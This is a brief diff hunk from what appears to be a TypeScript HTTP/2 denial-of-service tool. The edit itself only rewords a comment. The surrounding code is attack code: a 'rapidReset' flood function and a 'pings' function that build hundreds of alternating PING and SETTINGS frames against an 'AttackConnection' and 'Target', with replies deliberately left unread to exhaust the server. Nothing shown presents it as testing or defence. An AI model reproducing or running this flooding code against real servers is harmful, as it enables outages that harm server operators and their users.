@@ -61,7 +61,7 @@ export function rapidReset(token: string): Flood {
       })));
 }
 
-/** Frames that want an answer each, which is not read. */
+/** Frames that each require an answer, which is not read. */
 export function pings(connection: AttackConnection, target: Target, over: AbortSignal): Promise<void> {
   const piece = Buffer.concat(
     Array.from({ length: 500 }, (_, index) => index % 2 ? frame(FRAME.ping, 0, 0, new Uint8Array(8)) : frame(4, 0, 0)),
